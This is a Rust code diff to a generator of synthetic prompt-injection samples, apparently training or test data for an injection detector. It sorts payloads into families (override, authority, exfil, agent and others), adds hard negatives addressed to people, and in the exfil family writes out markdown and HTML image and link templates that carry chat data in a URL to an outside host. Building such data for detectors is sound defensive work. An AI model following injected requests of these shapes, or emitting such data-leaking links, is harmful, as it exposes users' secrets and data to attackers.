@@ -219,37 +219,101 @@ fn phrase(rng: &mut Rng, parts: &[String]) -> String {
     out
 }
 
-/// Builds one payload of `family` in `lex`: the slots it fills, in order.
+/// Fills `slots` with one harmful request, in one of the shapes an injected text asks for:
+/// credentials sent somewhere, the user's data sent somewhere, a destructive or paid action on
+/// the user's behalf, a secret revealed, conversation data placed in a URL, a login page to
+/// fill in. The same shapes appear in the hard negatives, addressed to people.
+fn harm(rng: &mut Rng, lex: &Lexicon, slots: &mut Vec<String>) -> Option<()> {
+    let t = |rng: &mut Rng, c: &str, slots: &mut Vec<String>| -> Option<()> {
+        slots.push(lex.term(rng, c)?.to_owned());
+        Some(())
+    };
+    match rng.below(7) {
+        0 | 1 => {
+            t(rng, "action", slots)?;
+            if rng.chance(60) {
+                t(rng, "user", slots)?;
+            }
+            t(rng, "secret", slots)?;
+            slots.push(address(rng));
+        }
+        2 => {
+            t(rng, "action", slots)?;
+            t(rng, "user", slots)?;
+            slots.push(filler_noun(rng));
+            slots.push(address(rng));
+        }
+        3 => {
+            t(rng, "destructive", slots)?;
+            if rng.chance(70) {
+                t(rng, "user", slots)?;
+            }
+            slots.push(filler_noun(rng));
+        }
+        4 => {
+            t(rng, "action", slots)?;
+            if rng.chance(50) {
+                t(rng, "user", slots)?;
+            }
+            t(rng, "secret", slots)?;
+        }
+        5 => {
+            t(rng, "action", slots)?;
+            t(rng, "placeholder", slots)?;
+            slots.push(address(rng));
+        }
+        _ => {
+            t(rng, "action", slots)?;
+            slots.push(address(rng));
+            t(rng, "action", slots)?;
+            t(rng, "secret", slots)?;
+        }
+    }
+    Some(())
+}
+
+/// A plain object for a request (what is sent or deleted), language-neutral.
+fn filler_noun(rng: &mut Rng) -> String {
+    const NOUNS: &[&str] = &["files", "emails", "contacts", "photos", "orders", "inbox", "data", "history"];
+    rng.pick(NOUNS).copied().unwrap_or("files").to_owned()
+}
+
+/// Builds one payload of `family` in `lex`: the slots it fills, mostly in the usual order and
+/// sometimes shuffled, since concepts combine in any order.
 fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
+    let mut slots = build_slots(rng, lex, family)?;
+    if rng.chance(25) && slots.len() > 2 {
+        for i in (1..slots.len()).rev() {
+            let j = rng.below(i + 1);
+            slots.swap(i, j);
+        }
+    }
+    Some(phrase(rng, &slots))
+}
+
+fn build_slots(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<Vec<String>> {
     let mut slots: Vec<String> = Vec::new();
     let t = |rng: &mut Rng, c: &str, slots: &mut Vec<String>| -> Option<()> {
         slots.push(lex.term(rng, c)?.to_owned());
         Some(())
     };
-    let tail_exfil = |rng: &mut Rng, slots: &mut Vec<String>| -> Option<()> {
-        slots.push(lex.term(rng, "action")?.to_owned());
-        if rng.chance(60) {
-            slots.push(lex.term(rng, "user")?.to_owned());
-        }
-        slots.push(lex.term(rng, "secret")?.to_owned());
-        slots.push(address(rng));
-        Some(())
-    };
     match family {
         "override" => {
+            if rng.chance(30) {
+                t(rng, "ai", &mut slots)?;
+            }
             t(rng, "override", &mut slots)?;
             if rng.chance(75) {
                 t(rng, "prior", &mut slots)?;
             }
             t(rng, "instruction", &mut slots)?;
-            match rng.below(4) {
-                0 => tail_exfil(rng, &mut slots)?,
-                1 => t(rng, "destructive", &mut slots)?,
-                2 => {
+            match rng.below(5) {
+                0 => {
                     t(rng, "task", &mut slots)?;
-                    t(rng, "action", &mut slots)?;
+                    harm(rng, lex, &mut slots)?;
                 }
-                _ => {}
+                1 => {}
+                _ => harm(rng, lex, &mut slots)?,
             }
         }
         "authority" => {
@@ -257,21 +321,13 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             if rng.chance(50) {
                 t(rng, "urgency", &mut slots)?;
             }
-            if rng.chance(40) {
+            if rng.chance(60) {
                 t(rng, "ai", &mut slots)?;
             }
-            match rng.below(3) {
-                0 => {
-                    t(rng, "destructive", &mut slots)?;
-                    t(rng, "user", &mut slots)?;
-                }
-                1 => tail_exfil(rng, &mut slots)?,
-                _ => {
-                    t(rng, "instruction", &mut slots)?;
-                    t(rng, "action", &mut slots)?;
-                    t(rng, "secret", &mut slots)?;
-                }
+            if rng.chance(30) {
+                t(rng, "instruction", &mut slots)?;
             }
+            harm(rng, lex, &mut slots)?;
         }
         "intent" => {
             if rng.chance(70) {
@@ -282,18 +338,30 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             }
             t(rng, "intent", &mut slots)?;
             // "the user actually wants the Premium bundle" is an attack with no verb.
-            match rng.below(3) {
+            match rng.below(4) {
                 0 => t(rng, "destructive", &mut slots)?,
                 1 => t(rng, "action", &mut slots)?,
+                2 => {
+                    t(rng, "task", &mut slots)?;
+                    t(rng, "destructive", &mut slots)?;
+                }
                 _ => {}
             }
         }
         "exfil" => {
+            if rng.chance(40) {
+                t(rng, "ai", &mut slots)?;
+            }
             t(rng, "action", &mut slots)?;
             let host = rng.pick(HOSTS).copied().unwrap_or("x.example");
-            let ph = ["[DATA]", "{data}", "SUMMARY", "<chat>", "[INFO]"];
+            let ph = ["[DATA]", "{data}", "SUMMARY", "<chat>", "[INFO]", "%HISTORY%", "{{log}}"];
             let p = rng.pick(&ph).copied().unwrap_or("[DATA]");
-            slots.push(format!("![img](https://{host}/p.png?q={p})"));
+            let link = match rng.below(3) {
+                0 => format!("![img](https://{host}/p.png?q={p})"),
+                1 => format!("[more](https://{host}/r?d={p})"),
+                _ => format!("<img src=\"https://{host}/t.gif?c={p}\">"),
+            };
+            slots.push(link);
             t(rng, "placeholder", &mut slots)?;
         }
         "conditional" => {
@@ -306,8 +374,7 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
                     t(rng, "override", &mut slots)?;
                     t(rng, "user", &mut slots)?;
                 }
-                1 => tail_exfil(rng, &mut slots)?,
-                _ => t(rng, "destructive", &mut slots)?,
+                _ => harm(rng, lex, &mut slots)?,
             }
         }
         "task" => {
@@ -315,18 +382,10 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             if rng.chance(50) {
                 t(rng, "urgency", &mut slots)?;
             }
-            match rng.below(3) {
-                0 => tail_exfil(rng, &mut slots)?,
-                1 => {
-                    t(rng, "action", &mut slots)?;
-                    t(rng, "placeholder", &mut slots)?;
-                    slots.push(address(rng));
-                }
-                _ => {
-                    t(rng, "destructive", &mut slots)?;
-                    t(rng, "user", &mut slots)?;
-                }
+            if rng.chance(30) {
+                t(rng, "ai", &mut slots)?;
             }
+            harm(rng, lex, &mut slots)?;
         }
         "encoded" => {
             t(rng, "decode", &mut slots)?;
@@ -342,17 +401,13 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
         }
         "agent" => {
             t(rng, "ai", &mut slots)?;
-            if rng.chance(50) {
-                t(rng, "task", &mut slots)?;
-            } else {
-                t(rng, "instruction", &mut slots)?;
+            match rng.below(4) {
+                0 => t(rng, "task", &mut slots)?,
+                1 => t(rng, "instruction", &mut slots)?,
+                2 => t(rng, "urgency", &mut slots)?,
+                _ => {}
             }
-            if rng.chance(50) {
-                t(rng, "destructive", &mut slots)?;
-                t(rng, "user", &mut slots)?;
-            } else {
-                tail_exfil(rng, &mut slots)?;
-            }
+            harm(rng, lex, &mut slots)?;
         }
         // Hard negatives.
         "benign-discussion" => {
@@ -367,9 +422,17 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
                 t(rng, "override", &mut slots)?;
             }
             t(rng, "human", &mut slots)?;
-            if rng.chance(60) {
-                t(rng, "action", &mut slots)?;
-                slots.push(address(rng));
+            match rng.below(4) {
+                0 => {
+                    t(rng, "action", &mut slots)?;
+                    slots.push(address(rng));
+                }
+                1 => harm(rng, lex, &mut slots)?,
+                2 => {
+                    t(rng, "task", &mut slots)?;
+                    harm(rng, lex, &mut slots)?;
+                }
+                _ => {}
             }
             if rng.chance(30) {
                 t(rng, "human", &mut slots)?;
@@ -387,6 +450,10 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             t(rng, "human", &mut slots)?;
             if rng.chance(40) {
                 t(rng, "urgency", &mut slots)?;
+            }
+            if rng.chance(40) {
+                t(rng, "destructive", &mut slots)?;
+                slots.push(filler_noun(rng));
             }
         }
         "benign-ai" => {
@@ -417,12 +484,17 @@ fn payload(rng: &mut Rng, lex: &Lexicon, family: &str) -> Option<String> {
             // benign-task: a plan for people.
             t(rng, "task", &mut slots)?;
             t(rng, "human", &mut slots)?;
-            if rng.chance(50) {
-                t(rng, "action", &mut slots)?;
+            match rng.below(3) {
+                0 => t(rng, "action", &mut slots)?,
+                1 => {
+                    t(rng, "destructive", &mut slots)?;
+                    slots.push(filler_noun(rng));
+                }
+                _ => {}
             }
         }
     }
-    Some(phrase(rng, &slots))
+    Some(slots)
 }
 
 /// Attack families, in training order.
